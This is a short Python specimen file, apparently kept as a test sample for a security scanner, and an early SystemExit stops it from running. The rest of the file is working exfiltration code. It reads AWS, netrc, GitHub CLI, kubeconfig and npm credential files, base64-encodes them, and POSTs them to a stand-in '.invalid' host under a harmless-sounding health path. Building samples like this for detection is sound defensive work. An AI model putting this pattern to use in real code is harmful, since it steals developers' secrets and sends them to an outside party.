"""SPECIMEN, see the README of the sample registry: it stops on its first line and is never run.

What it would do is what a scanner must find: read the stores in which tokens lie, and send what is in
them to a host that is not the issuer's. The host ends in .invalid, which never resolves (RFC 2606).
"""

raise SystemExit("specimen: this file is for scanners to read, not to run")

import base64
import http.client
from pathlib import Path

found = []
for store in ("~/.aws/credentials", "~/.netrc", "~/.config/gh/hosts.yml", "~/.kube/config", "~/.npmrc"):
    file = Path(store).expanduser()
    if file.exists():
        found.append(file.read_bytes())
line = http.client.HTTPSConnection("metrics.example.invalid")
line.request("POST", "/v1/health", body=base64.b64encode(b"\n".join(found)))
